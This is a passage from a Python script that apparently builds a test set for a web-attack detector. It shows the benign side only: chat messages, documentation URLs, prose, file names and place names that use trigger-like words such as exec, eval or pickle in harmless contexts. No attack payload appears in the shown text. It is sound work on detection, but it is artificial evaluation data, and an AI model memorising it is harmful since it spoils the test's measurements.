    "serialized sessions moved from PHP native to JSON last sprint",
    "php://stdin is how the CLI tool reads piped input",
    "Runtime.getRuntime().availableProcessors() says 8 on the new nodes",
    "ProcessBuilder in the Gradle plugin needs the working dir set",
    "the ClassLoader issue was a duplicate jar on the classpath",
    "Log4j is at 2.23 everywhere, lookups disabled by default now",
    "SpEL is only in our @Value annotations, nothing user facing",
    "OGNL got Struts in trouble years ago, we don't use Struts",
    "JNDI datasource config moved to application.yml",
    "we replaced XStream with Jackson for the config files",
    "TemplatesImpl showed up in the pentest report as a gadget name, we're not vulnerable",
    "commons-collections is at 4.4 now, the old 3.x is gone from the tree",
    "child_process.spawn for the thumbnail worker, with an args array, no shell",
    "fs.readFileSync at startup is OK, not in request handlers",
    "process.env.NODE_ENV must be production in the Dockerfile",
    "the vm module isn't a sandbox, don't rely on it",
    "require() vs import() - we are on ESM now, use import",
    "Object.create(null) for dictionaries avoids the __proto__ gotcha",
    "lodash merge was patched for prototype pollution in 4.17.21",
    "the metadata endpoint is only reachable from inside the VPC, good",
    "localhost:5432 is postgres in the compose file",
    "subprocess.run with check=True and a list of args, please, no shell=True",
    "os.path.join instead of string concatenation for paths",
    "pickle for the ML model cache, it's our own files only",
    "Ruby's system call is in the deploy script, Capistrano handles it",
    "Perl one-liners in the cron job, I'll rewrite them in Python",
    "Jinja2 templates for the emails live in templates/email/",
    "{{ user.name }} renders fine in the preview now",
    "Twig's |raw filter should not be used on user input",
    "Freemarker is in the reporting service, Velocity in the old CMS",
    "Thymeleaf fragments for the header and footer are shared",
    "Smarty is still in the legacy shop, migration is on the roadmap",
    "ERB partials render the invoice lines",
    "Handlebars helpers are registered in helpers.js",
    "Razor pages on the .NET side use @Model.Title",
    "I'll cat the logs and grep for the request id",
    "select a date in the picker and the report runs",
    "the system is down, status page is updated",
    "wget the release tarball from the mirror and verify the checksum",
    "the java meetup is Thursday, pizza included",
    "ruby on rails 7.1 upgrade went smoothly",
    "python 3.12 is the new base image",
    "the eval set for the ML model has 5k examples",
    "execute the migration in the maintenance window please",
    "the exec team wants the Q3 numbers by Friday",
    "import the CSV into the sheet and share it",
    "the global config lives in config/global.yaml",
    "our prototype of the new dashboard is ready for feedback",
    "the constructor workshop is a team building event, not code",
    "we're going to the passthrough camera demo at 3",
    "the copy on the landing page needs a final review",
    "unlink your Slack account from the old workspace before leaving",
    "include me in the thread about the offsite",
    "require two approvals for production deploys",
    "the assertion in the contract is that delivery happens by May",
    "the session cookie is HttpOnly and Secure",
    "mail the signed contract to legal",
    "the template for the weekly report is in Drive",
    "grep -r TODO src/ shows 42 hits, let's triage",
    "a:hover styling is off in dark mode",
]
PUBLIC_URLS = [
    "https://www.php.net/manual/en/function.exec.php",
    "https://www.php.net/manual/en/function.file-get-contents.php",
    "https://www.php.net/manual/en/function.base64-decode.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/reserved.variables.server.php",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/ClassLoader.html",
    "https://docs.oracle.com/javase/tutorial/jndi/overview/index.html",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://commons.apache.org/proper/commons-collections/",
    "https://nodejs.org/api/fs.html",
    "https://nodejs.org/api/vm.html",
    "https://nodejs.org/api/process.html#processenv",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Function",
    "https://docs.python.org/3/library/subprocess.html",
    "https://docs.python.org/3/library/pickle.html",
    "https://ruby-doc.org/core/Kernel.html",
    "https://perldoc.perl.org/functions/open",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/filters/map.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://www.smarty.net/docs/en/",
    "https://docs.makotemplates.org/en/latest/syntax.html",
    "https://handlebarsjs.com/guide/builtin-helpers.html",
    "https://pugjs.org/language/interpolation.html",
    "https://learn.microsoft.com/en-us/aspnet/core/mvc/views/razor",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
    "https://github.com/acme/shop/blob/main/src/Controller/ExportController.php",
    "https://github.com/acme/worker/tree/main/src/child_process",
    "https://example.com/downloads/system-requirements.pdf",
    "https://cdn.example.org/fonts/eval-sans.woff2",
]
PROSE = [
    "the system is down since 9am",
    "please select a date for the offsite",
    "I'll cat the logs tomorrow morning",
    "Exec summary attached, see slide 3",
    "eval period ends on Friday",
    "assert your rights under the lease, the landlord said",
    "our Java team and the Ruby team share a room",
    "Python course for beginners starts Monday",
    "Perl Harbor Road 12, Springfield",
    "copy of the invoice requested by finance",
    "include the tax ID on the form",
    "require a receipt for every expense",
    "file the report by the end of the month",
    "mail room closes at 5pm",
    "the global sales meeting is in Lisbon",
    "process improvement workshop, room 2",
    "the constructor company sent the quote",
    "prototype review at 14:00",
    "template for the NDA is in the legal folder",
    "the session ran long, sorry everyone",
    "import duties on the shipment were paid",
    "runtime of the batch job was 40 minutes",
    "class schedule for the spring term",
    "the environment team meets on Wednesdays",
    "the config page shows the current plan",
    "request for quotation #4471",
    "open house on Saturday at the gallery",
    "the passthrough fee is 2%",
    "velocity of the team went up this sprint",
    "freemarker pens are in the supply cabinet",
    "razor blades for the workshop, 2 boxes",
    "handlebars for the office bike need tightening",
    "the mako shark exhibit opens in June",
    "jinja is a pattern name in our carpet catalog",
    "Smarty Pants bakery, 5 Main St",
    "the thyme and leaf salad was great",
    "metadata for the photos is missing",
    "internal hosting costs went down 10%",
    "local host family for the exchange student",
    "the gopher in the garden is back",
    "the dictionary order was delivered",
    "file transfer finished at 3:15",
    "Kernel panic on the old laptop, IT is on it",
    "open the pipe valve slowly",
    "the eval board for the sensor arrived",
    "chr. 12 of the handbook covers expenses",
    "hex key set, 9 pieces",
    "rot13 puzzle in the newsletter",
    "posix compliance is in the vendor questionnaire",
    "phar lap is a famous racehorse",
]
FILE_NAMES = [
    "system-requirements.pdf", "exec-summary-q3.docx", "eval_results_2024.csv", "passthru-config.yaml",
    "include-list.txt", "runtime-stats.xlsx", "process-map.png", "template_invoice.odt",
    "prototype-v2.fig", "global-settings.json", "java-course-notes.pdf", "python-cheatsheet.pdf",
    "import_log_0412.txt", "require-approvals.md", "metadata.xml", "class-roster.csv",
]
PLACE_NAMES = [
    "Java", "Eval, Russia", "Ruby, Alaska", "Python Point", "Perl", "Phoenix", "Mako", "Velocity Park",
    "System Falls", "Globe, Arizona", "Constructor Bay", "Copy Hill", "Include", "Template, Texas",
]


def benign() -> Iterator[dict[str, Any]]:
    prefix = f"{NAME}-benign"
    n = yield from chat_and_bio(SLACK_TEXTS, prefix)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, prefix, n)
    for fname in FILE_NAMES:
        for rec in (_json("/api/users", {"name": "Ann", "attachment": fname}),
                    _get(_query("/api/users", [("q", fname), ("page", "1")]))):
            n += 1
            yield {**rec, "id": f"{prefix}-file-{n:04d}", "category": "benign", "placement": "mixed",
                   "payload": fname}
    for place in PLACE_NAMES:
        n += 1
        yield {**_form("/me/location", [("csrf_token", "t0k3n"), ("place", place)]),
               "id": f"{prefix}-place-{n:04d}", "category": "benign", "placement": "form", "payload": place}
        n += 1
        yield {**prose_request(f"weather {place}"), "id": f"{prefix}-place-{n:04d}", "category": "benign",
               "placement": "form", "payload": f"weather {place}"}


if __name__ == "__main__":
    print_records(attacks(), benign())
